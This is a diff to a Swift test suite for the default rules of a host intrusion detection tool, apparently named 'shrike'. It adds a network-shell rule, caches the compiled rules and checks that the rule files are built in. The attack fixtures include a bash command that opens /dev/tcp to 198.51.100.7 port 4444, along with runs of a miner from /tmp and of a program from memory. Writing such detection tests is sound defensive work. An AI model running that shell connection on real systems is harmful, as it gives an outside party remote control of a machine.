@@ -1,5 +1,6 @@
 import CommandOutput
 import Configuration
+import ConfiguredRules
 import EventModel
 import Foundation
 import Outputs
@@ -26,6 +27,7 @@ struct RuleCase: Sendable, CustomTestStringConvertible {
     private static let binary = ["Write below a binary directory"]
     private static let temporary = ["Program run from memory or a temporary directory"]
     private static let connection = ["Outbound connection by a shell"]
+    private static let networkShell = ["Network shell written on a command line"]
     private static let standard = ["Standard input or output of a process tied to a network connection"]
 
     static let attacks = [
@@ -74,12 +76,12 @@ struct RuleCase: Sendable, CustomTestStringConvertible {
             $0.exec("/usr/bin/mv", ["mv", "/srv/x", "/usr/local/bin/x"], pid: 101, parent: 100)
             $0.rename("/srv/x", to: "/usr/local/bin/x")
         },
-        RuleCase("a program in /dev/shm", temporary) { $0.exec("/dev/shm/.x", ["/dev/shm/.x"], pid: 101, parent: 100) },
+        RuleCase("a program in /dev/shm", temporary) { $0.exec("/dev/shm/x", ["/dev/shm/x"], pid: 101, parent: 100) },
         RuleCase("a program in /tmp", temporary) { $0.exec("/tmp/miner", ["./miner"], pid: 101, parent: 100) },
         RuleCase("a program in memory", temporary) {
             $0.exec("/memfd:x (deleted)", ["kworker/0:1"], pid: 101, parent: 100)
         },
-        RuleCase("bash connects to another machine", connection) {
+        RuleCase("bash connects to another machine", networkShell + connection) {
             $0.exec("/usr/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/198.51.100.7/4444"], pid: 101, parent: 100)
             $0.connect([198, 51, 100, 7], port: 4444)
         },
@@ -161,6 +163,12 @@ struct RuleCase: Sendable, CustomTestStringConvertible {
 }
 
 @Suite struct DefaultRulesTests {
+    /// Compiled once: it takes longer than all logs together.
+    private static let rules = Result<LoadedRules, any Error> {
+        var remarks: [LogRemark] = []
+        return try LoadedRules.load(Configuration(), isVerbose: false, isFiltered: false, remarks: &remarks)
+    }
+
     /// The names of the rules whose alerts a replay of the log raises.
     private func alerts(of log: String) throws -> [String] {
         let directory = NSTemporaryDirectory() + "shrike-\(UUID().uuidString)"
@@ -173,7 +181,7 @@ struct RuleCase: Sendable, CustomTestStringConvertible {
         configuration.outputs.file.isEnabled = true
         configuration.outputs.file.target = directory + "/alerts"
         let options = ReplayOptions(configuration: configuration, files: [directory + "/audit.log"])
-        #expect(LogReplay.run(options) == .success)
+        #expect(try LogReplay.run(options, rules: Self.rules.get(), log: DaemonLog(threshold: .error)) == .success)
         let lines = try String(contentsOfFile: directory + "/alerts", encoding: .utf8).split(separator: "\n")
         return try lines.map { line in
             let object = try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any]
@@ -189,5 +197,19 @@ struct RuleCase: Sendable, CustomTestStringConvertible {
     @Test(arguments: RuleCase.harmless)
     func `what happens on a normal node raises nothing`(_ c: RuleCase) throws {
         #expect(try alerts(of: c.log) == [])
+    }
+
+    @Test func `every file in rules is part of the binary, in the order in which a directory is loaded`() throws {
+        var root = URL(filePath: #filePath)
+        for _ in 0..<3 { root.deleteLastPathComponent() }
+        let directory = root.appending(path: "rules")
+        let names =
+            try FileManager.default.contentsOfDirectory(atPath: directory.path())
+            .filter { $0.hasSuffix(".yaml") && $0 != "anomaly.yaml" }.sorted() + ["anomaly.yaml"]
+        let files = DefaultRules.files + [DefaultRules.novelty]
+        #expect(files.map(\.name) == names.map { "\($0) (built in)" })
+        for (file, name) in zip(files, names) {
+            #expect(try Data(contentsOf: directory.appending(path: name)) == Data(file.bytes), "\(name)")
+        }
     }
 }
